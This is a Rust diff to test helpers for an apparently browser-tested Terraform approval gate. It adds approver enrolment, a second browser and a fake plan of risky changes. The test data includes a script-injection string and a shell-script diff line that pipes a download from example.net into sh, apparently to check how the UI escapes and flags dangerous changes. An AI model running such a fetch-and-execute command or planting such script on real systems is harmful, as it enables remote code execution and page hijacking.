@@ -35,6 +35,8 @@ pub(crate) const HOSTILE: &str = "</blockquote><script>document.title='owned'</s
 pub(crate) struct World {
     pub(crate) sandbox: Sandbox,
     pub(crate) browser: Browser,
+    /// What names mean to browsers here.
+    names: String,
     /// The operator listener's address, for programs.
     address: String,
     _folder: TempDir,
@@ -43,6 +45,11 @@ pub(crate) struct World {
 impl World {
     /// Starts it; `None` where there is no browser.
     pub(crate) async fn start() -> Option<Self> {
+        Self::under(policy::EXAMPLE_CONTRACT).await
+    }
+
+    /// The same under another contract.
+    pub(crate) async fn under(contract: &str) -> Option<Self> {
         // An address of its own, where nobody else can take the port, and a name for it: browsers
         // make passkeys for names only.
         let [a, b, c] = random_bytes();
@@ -50,7 +57,7 @@ impl World {
         let names = format!("MAP gate.localhost {own}, MAP *.gate.localhost 127.0.0.1");
         let browser = Browser::start(&names).await?;
         let folder = tempfile::tempdir().unwrap();
-        let contract = policy::EXAMPLE_CONTRACT.as_bytes().to_vec();
+        let contract = contract.as_bytes().to_vec();
         let cloud = TerraformCloudConfig::acme(Engine::Recorded);
         let sandbox = Sandbox::start_on(folder.path(), contract, cloud, |config| {
             config.trust_pulse.open = false;
@@ -61,9 +68,30 @@ impl World {
         Some(Self {
             sandbox: sandbox.await.unwrap(),
             browser,
+            names,
             address: format!("http://{own}:{PORT}"),
             _folder: folder,
         })
+    }
+
+    /// The browser of somebody else.
+    pub(crate) async fn another_browser(&self) -> Browser {
+        let browser = Browser::start(&self.names).await;
+        browser.expect("there was one before")
+    }
+
+    /// An approver with an authenticator in that browser, signed in with it.
+    pub(crate) async fn enrol(&self, browser: &Browser, email: &str) {
+        const BUTTON: &str = "form[data-passkey] button";
+        let invite = json!({ "email": email });
+        let invited = self.operator().post("/v1/approvers/invite", &invite).await;
+        browser.authenticator().await;
+        browser.open(invited.ok()["link"].as_str().unwrap()).await;
+        browser.click(BUTTON).await;
+        browser.sees("Your passkey is enrolled").await;
+        browser.open(&self.url("/sign-in")).await;
+        browser.click(BUTTON).await;
+        browser.sees("Nothing is applied before").await;
     }
 
     pub(crate) fn app(&self) -> &Arc<App> {
@@ -141,19 +169,24 @@ impl World {
     }
 
     pub(crate) async fn until(&self, run: &str, gate: GateState) {
+        self.until_any(run, &[gate]).await;
+    }
+
+    /// Waits until a run stands at one of these; at any other end the test fails.
+    pub(crate) async fn until_any(&self, run: &str, gates: &[GateState]) -> GateState {
         let store = &self.app().store;
         let patient = tokio::time::timeout(std::time::Duration::from_secs(60), async {
             let mut commits = store.commits();
             loop {
                 let row = store.run(run).await.unwrap().unwrap();
-                if row.gate == gate {
-                    return;
+                if gates.contains(&row.gate) {
+                    return row.gate;
                 }
                 assert!(!row.gate.is_final(), "{:?} {:?}", row.gate, row.gate_reason);
                 commits.changed().await.unwrap();
             }
         });
-        patient.await.expect("the run gets there");
+        patient.await.expect("the run gets there")
     }
 
     /// The first approver says yes, by the API.
@@ -182,28 +215,39 @@ impl World {
     pub(crate) async fn huge_run(&self, objects: u64) -> String {
         let app = self.app();
         let job = app.store.job(&self.sandbox.job_id).await.unwrap().unwrap();
-        let entry = |n: u64| {
-            let (action, kind) = if n < 40 {
-                ("delete", "aws_db_instance")
-            } else {
-                ("create", "aws_iam_policy")
-            };
-            let long = json!({"value": format!("{{\"Statement\":\"{}\"}}", "x".repeat(200))});
-            let diff: Vec<Value> = (0..8)
+        let entry =
+            |n: u64| {
+                let (action, kind) = if n < 40 {
+                    ("delete", "aws_db_instance")
+                } else {
+                    ("create", "aws_iam_policy")
+                };
+                let long = json!({"value": format!("{{\"Statement\":\"{}\"}}", "x".repeat(200))});
+                let diff: Vec<Value> = (0..8)
                 .map(|k| match k {
                     0 => json!({"name": "password", "before": "sensitive", "after": "sensitive"}),
                     1 => json!({"name": "arn", "before": "absent", "after": "unknown",
                         "forces_replacement": true}),
                     2 => json!({"name": "policy", "before": "absent", "after": long}),
-                    k => json!({"name": format!("tag_{k}"), "before": {"value": "1"},
+                    3 => json!({"name": "user_data", "before": {"value": "\"#!/bin/sh\\na\""},
+                        "after": {"value": "\"#!/bin/sh\\nb\""}, "lines": [
+                            {"kind": "skipped", "text": "7"},
+                            {"kind": "kept", "text": "set -eu"},
+                            {"kind": "removed", "text": "curl -fsS https://mirror.internal/agent"},
+                            {"kind": "added", "text": "curl -fsS https://example.net/x | sh"},
+                        ]}),
+                    4 => json!({"name": "jsondecode(assume_role_policy).Statement[0].Principal.AWS",
+                        "before": "absent", "after": {"value": "\"*\""}}),
+                    k => json!({"name": format!("tags[\"team/{k}\"]"), "before": {"value": "1"},
                         "after": {"value": "\"two\""}}),
                 })
                 .collect();
-            let address = format!("module.team[\"{n}\"].{kind}.this");
-            Json::from(json!({
-                "address": address, "type": kind, "actions": [action], "diff": diff,
-            }))
-        };
+                let address = format!("module.team[\"{n}\"].{kind}.this");
+                Json::from(json!({
+                    "address": address, "type": kind, "actions": [action], "diff": diff,
+                    "left_out": if n == 1 { 12 } else { 0 },
+                }))
+            };
         let entries: Vec<Json> = (0..objects).map(entry).collect();
         let changes = Changes {
             delete: 40,
